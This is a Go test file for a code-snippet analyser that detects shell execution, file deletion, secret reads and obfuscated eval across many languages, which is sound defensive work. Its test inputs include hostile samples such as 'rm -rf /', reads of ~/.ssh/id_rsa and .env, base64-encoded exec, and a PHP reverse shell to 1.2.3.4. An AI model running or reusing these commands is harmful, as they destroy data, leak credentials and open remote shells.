package snippet

import (
	"fmt"
	"strings"
	"testing"
)

func show(acts []Act) string {
	var all []string
	for _, a := range acts {
		all = append(all, [...]string{"sh", "run", "open", "write", "delete", "tree", "opaque", "match", "enter"}[a.Kind]+"("+strings.Join(a.Words, ",")+")")
	}
	return strings.Join(all, " ")
}

func TestNames(t *testing.T) {
	for _, c := range []struct {
		lang       Language
		code, want string
	}{
		{Python, `import socket, os; os.dup2(s.fileno(), 0) # exec`, "0 dup2 fileno import os s socket"},
		{Python, `print("exec(urlopen)")`, "print"},
		{JavaScript, `require("node:net").connect(1)`, "1 connect net require"},
		{Ruby, `require "socket"; puts "eval"`, "puts require socket"},
		{Console, "socket", ""},
	} {
		if got := strings.Join(Names(c.lang, c.code), " "); got != c.want {
			t.Errorf("%s: %q, want %q", c.code, got, c.want)
		}
	}
}

func TestRead(t *testing.T) {
	for _, c := range []struct {
		lang       Language
		code, want string
	}{
		{Python, `import os; os.system("rm -rf /srv/x")`, "sh(rm -rf /srv/x)"},
		{Python, `print('os.system("rm -rf /")')`, ""},
		{Python, `# os.system("rm -rf /")`, ""},
		{Python, `print("rm -rf /")`, ""},
		{Python, `import subprocess; subprocess.run(["git","push","-f"], check=True)`, "run(git,push,-f)"},
		{Python, `import subprocess as sp; sp.run("a b", shell=True)`, "sh(a b)"},
		{Python, `from os import system; system('a' 'b' + "c")`, "sh(abc)"},
		{Python, `c = "rm -rf " + x; os.system(c)`, "sh(rm -rf ${__})"},
		{Python, `os.system(f"rm -rf {p}/x")`, "sh(rm -rf ${__}/x)"},
		{Python, `subprocess.run("rm -rf build".split())`, "run(rm,-rf,build)"},
		{Python, `os.execvp("rm", ["rm", "-rf", "x"])`, "run(rm,-rf,x)"},
		{Python, `shutil.rmtree(os.path.expanduser("~/x"))`, "tree(~/x)"},
		{Python, `__import__('shutil').rmtree(__import__('os').environ['HOME'])`, "tree(~)"},
		{Python, `open(".env").read()`, "open(.env)"},
		{Python, `print(open('.env').read())`, "open(.env)"},
		{Python, `open("a", "w").write("x")`, "write(a)"},
		{Python, `with open('a','a') as f: f.write('x')`, "write(a)"},
		{Python, `from pathlib import Path; print((Path.home()/'.ssh'/'id_rsa').read_text())`, "open(~/.ssh/id_rsa)"},
		{Python, `Path("x").unlink()`, "delete(x)"},
		{Python, `exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2EnKQ==").decode())`, "sh(a)"},
		{Python, `exec(base64.b64decode(sys.argv[1]))`, "opaque()"},
		{Python, `eval("os.system('a')")`, "sh(a)"},
		{Python, "x.replace('a', 'b'); l.remove('a'); d.copy('b')", ""},
		{Python, `app.run("0.0.0.0")`, ""},
		{JavaScript, `require('child_process').execSync('rm -rf /')`, "sh(rm -rf /)"},
		{JavaScript, `const {execSync} = require("child_process"); execSync("a")`, "sh(a)"},
		{JavaScript, `require("fs").readFileSync(` + "`.env`" + `)`, "open(.env)"},
		{JavaScript, `console.log(require('fs').readFileSync('a'))`, "open(a)"},
		{JavaScript, `require('fs').appendFileSync(process.env.HOME+'/.bashrc','x')`, "write(~/.bashrc)"},
		{JavaScript, `require('child_process').spawnSync('rm', ['-rf', 'x'])`, "run(rm,-rf,x)"},
		{JavaScript, `require('fs').rmSync('d', {recursive:true})`, "tree(d)"},
		{JavaScript, "await $`rm -rf x`", "sh(rm -rf x)"},

		{JavaScript, `/execSync("a")/.exec("b")`, ""},
		{JavaScript, `// execSync("a")`, ""},
		{JavaScript, `eval(atob("ZXhlY1N5bmMoJ2EnKQ=="))`, "sh(a)"},
		{JavaScript, `eval(atob(x))`, "opaque()"},
		{Ruby, `puts File.read(".env")`, "open(.env)"},
		{Ruby, `system "rm -rf x"`, "sh(rm -rf x)"},
		{Ruby, `system("rm", "-rf", "x")`, "run(rm,-rf,x)"},
		{Ruby, "`rm -rf x`", "sh(rm -rf x)"},
		{Ruby, "%x(rm -rf x)", "sh(rm -rf x)"},
		{Ruby, `puts 'system("x")'`, ""},
		{Ruby, `FileUtils.rm_rf("#{Dir.home}/x")`, "tree(~/x)"},
		{Ruby, `puts File.read(Dir.home+"/.ssh/id_rsa")`, "open(~/.ssh/id_rsa)"},
		{Perl, `system("rm -rf /home/user")`, "sh(rm -rf /home/user)"},
		{Perl, `unlink ".git/hooks/pre-commit"`, "delete(.git/hooks/pre-commit)"},
		{Perl, `exec "rm","-rf",$ENV{HOME}`, "run(rm,-rf,~)"},
		{Perl, `open(F, ">", "a"); print F 1`, "write(a)"},
		{Perl, `open(F, "<a")`, "open(a)"},
		{Perl, `print "system('x')"`, ""},
		{Perl, `qx(rm x)`, "sh(rm x)"},
		{PHP, `$s=fsockopen("1.2.3.4",99);exec("/bin/sh -i <&3 >&3 2>&3");`, "sh(/bin/sh -i <&3 >&3 2>&3)"},
		{PHP, `echo file_get_contents("a");`, "open(a)"},
		{PHP, `eval(base64_decode($x));`, "opaque()"},
		{Lua, `os.execute("rm -rf x")`, "sh(rm -rf x)"},
		{Lua, `io.open("a", "w"):write("b")`, "write(a)"},
		{Lua, `-- os.execute("a")`, ""},
		{Perl, `unlink <~/*>`, "delete(~/*)"},
		{Perl, `while (<STDIN>) { print }`, ""},
		{R, `system("rm -rf x"); unlink("d", recursive = TRUE)`, "sh(rm -rf x) tree(d)"},
		{R, `cat('system("x")')`, ""},
		{Julia, "run(`rm -rf x`); rm(\"d\", recursive=true)", "sh(rm -rf x) tree(d)"},
		{AppleScript, `tell app "Finder" to do shell script "rm -rf x" -- why`, "sh(rm -rf x)"},
		{AppleScript, `display dialog "do shell script"`, ""},
		{Tcl, `exec rm -rf x; puts "exec rm"`, "run(rm,-rf,x)"},
		{Tcl, "# exec a\nif {1} { exec b \"c d\" }\nset f [open out w]", "run(b,c d) write(out)"},
		{Tcl, `puts [exec cat $env(HOME)/.netrc]; file delete -force x; open "|a b"`, "run(cat,~/.netrc) tree(x) sh(a b)"},
		{Lisp, `(shell-command "rm -rf x") (call-process "a" nil nil nil "b") ; (shell-command "c")`, "sh(rm -rf x) run(a,b)"},
		{Lisp, `(message "(shell-command \"x\")") (delete-directory "d" t) (with-temp-file "o" (insert "y"))`, "tree(d) write(o)"},
		{PowerShell, `Remove-Item -Recurse -Force $HOME/x; Get-ChildItem | Out-Null; git push -f`, "tree(~/x) run(Get-ChildItem) run(Out-Null) run(git,push,-f)"},
		{PowerShell, `Write-Output 'rm x; del y' # rm z`, "run(Write-Output,rm x; del y)"},
		{PowerShell, `iex $x`, "opaque()"},
		{Makefile, "all: dep\n\t@rm -rf $(OUT) $$x\nx: ; rm y\nV = $(shell cat (a))\n# rm z", "sh(rm -rf ${__} $x) sh(rm y) sh(cat (a))"},
		{Console, ":!rm -rf x\n%!sort\nsilent !a\nr !b\nw out\n", "sh(rm -rf x) sh(sort) sh(a) sh(b) write(out)"},
		{Console, "\\! a\n.shell b\nshell c\nlocal d\nselect '!e';\necho system('f')", "sh(a) sh(b) sh(c) sh(d) sh(f)"},
		{Console, ".import \"|a b\" t\n.read '|c'\n.read \"d\"", "sh(a b) sh(c) open(d)"},
		{Other, `System.cmd("rm", ["-rf", "x"]); System.shell("a b")`, "run(rm,-rf,x) sh(a b)"},
		{Other, "os:cmd('a b').", "sh(a b)"},
		{Other, `"a b".execute(); new ProcessBuilder("a", "b").start(); Runtime.getRuntime().exec("c")`, "sh(a b) run(a,b) sh(c)"},
		{Other, `import sys.process._; "a b".!`, "sh(a b)"},
		{Other, `System.Process.callCommand "a b"`, "sh(a b)"},
		{Other, `IO.puts("system(a)"); exec(x)`, ""},
		{JavaScript, `new Deno.Command("a", {args: ["b"], stdout: "piped"}).outputSync()`, "run(a,b)"},
		{JavaScript, `Deno.run({cmd: ["a", "b"]})`, "run(a,b)"},
		{JavaScript, `Bun.spawn({cmd: ["a"], onExit() { fs.rmSync("b") }})`, "tree(b) run(a)"},
		{JavaScript, `app.run({cmd: ["a"]}); f({args: ["b"]})`, ""},
		{Console, `COPY t TO PROGRAM 'a b'`, "sh(a b)"},
		{Console, `py3 import os; os.system("a")`, "sh(a)"},
		{Console, "s/a/b/\nwq\nset number\nbreak main\nrun", ""},
		{Awk, `BEGIN{system("git push -f origin main")}`, "sh(git push -f origin main)"},
		{Awk, `BEGIN { while ((getline line < ".env") > 0) print line }`, "open(.env)"},
		{Awk, `{ print $1 > "out" }`, "write(out)"},
		{Awk, `BEGIN { "date" | getline d }`, "sh(date)"},
		{Awk, `BEGIN { c = "date"; c | getline d; "id" | getline }`, "sh(date) sh(id)"},
		{Awk, `{ $1 | getline d; x | getline }`, ""},
		{Awk, `{ print $1 | "sort" }`, "sh(sort)"},
		{Awk, `BEGIN { print "rm -rf " "x" | "sh -s"; print "a" | "sh b.sh" }`, "sh(sh -s) sh(rm -rf x) sh(sh b.sh)"},
		{Awk, `{ print $1 | "sh"; print "a" $1 "b" | "/bin/bash" }`, "sh(sh) sh(/bin/bash)"},
		{Awk, `$1 > 5 { print "system(\"x\")" }`, ""},
	} {
		if got := show(Read(c.lang, c.code)); got != c.want {
			t.Errorf("%s\n  %s, want %s", c.code, got, c.want)
		}
	}
}

// TestBounded: code that nests or repeats without end ends.
func TestBounded(t *testing.T) {
	for _, code := range []string{strings.Repeat("(", 100000), strings.Repeat("a(", 10000), strings.Repeat("a.b(", 10000), strings.Repeat("system('x');", 10000), strings.Repeat("eval('", 1000), strings.Repeat("[", 9999), strings.Repeat("a='b'+a;", 50)} {
		for lang := Python; lang <= Awk; lang++ {
			if n := len(Read(lang, code)); n > maxActs {
				t.Errorf("%d acts", n)
			}
		}
	}
}

func FuzzRead(f *testing.F) {
	f.Add(uint8(1), "os.system('a' + b)")
	f.Add(uint8(4), "open(F, \">$x\"); `a`")
	f.Fuzz(func(t *testing.T, lang uint8, code string) {
		if len(code) < 4000 {
			_ = fmt.Sprint(Read(Language(lang%8), code))
		}
	})
}
